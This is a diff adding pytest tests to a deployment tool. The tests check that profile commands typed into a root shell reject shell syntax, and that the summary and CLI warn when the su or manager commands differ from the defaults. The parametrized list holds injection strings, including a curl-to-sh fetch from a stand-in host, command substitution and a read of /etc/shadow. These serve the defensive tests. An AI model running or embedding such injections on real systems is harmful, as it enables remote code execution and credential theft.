@@ -225,3 +225,61 @@ def test_replace_host_key_without_the_new_fingerprint_is_refused(tmp_path: Path)
     assert proc.returncode != 0
     assert "--replace-host-key needs the new fingerprint" in proc.stderr
     assert "Traceback" not in proc.stderr
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "su -; curl http://x/s | sh",
+        "su - && id",
+        "EmsServerManager `id`",
+        "EmsServerManager $(id)",
+        "EmsServerManager > /tmp/x",
+        "EmsServerManager < /etc/shadow",
+        "su -\nid",
+        "EmsServerManager 'quoted'",
+        "Ems* ",
+    ],
+)
+def test_profile_commands_with_shell_syntax_are_refused(tmp_path: Path, command: str) -> None:
+    """Issue 12, finding 5: these lines are typed into a root shell."""
+    for field in ("su_command", "manager_command"):
+        path = tmp_path / "site.toml"
+        escaped = command.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
+        path.write_text(f'name = "site"\nextends = "ovoc-8"\n[console]\n{field} = "{escaped}"\n')
+        with pytest.raises(InputError) as info:
+            load_profile(str(path))
+        assert field in str(info.value) and "plain command" in str(info.value)
+
+
+def test_profile_summary_shows_root_commands_and_warns_when_they_differ(tmp_path: Path) -> None:
+    builtin = load_profile()
+    assert builtin.su_command == "/bin/su -" and builtin.command_warnings() == ()
+    assert "typed as the SSH user: /bin/su -" in builtin.summary()
+    assert "typed as root: EmsServerManager" in builtin.summary()
+    assert "WARNING" not in builtin.summary()
+    path = tmp_path / "site.toml"
+    path.write_text(
+        'name = "site"\nextends = "ovoc-8"\n[console]\nsu_command = "sudo -i"\n'
+        'manager_command = "/opt/acems/bin/EmsServerManager --batch"\n'
+    )
+    edited = load_profile(str(path))
+    summary = edited.summary()
+    assert "typed as the SSH user: sudo -i" in summary
+    assert "typed as root: /opt/acems/bin/EmsServerManager --batch" in summary
+    assert summary.count("WARNING") == 2 and "not the built-in '/bin/su -'" in summary
+
+
+def test_cli_shows_the_profile_commands_before_anything_is_sent(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from app import cli
+    from tests.helpers import requested
+
+    ws = requested(tmp_path)
+    path = tmp_path / "site.toml"
+    path.write_text('name = "site"\nextends = "ovoc-8"\n[console]\nsu_command = "sudo -i"\n')
+    cli.main(["deploy-ovoc", str(ws.path), "--host", "ovoc.example.com", "--profile", str(path),
+              "--manual", str(tmp_path / "m")])  # fmt: skip
+    err = capsys.readouterr().err
+    assert "typed as the SSH user: sudo -i" in err and "WARNING: this profile's su command" in err
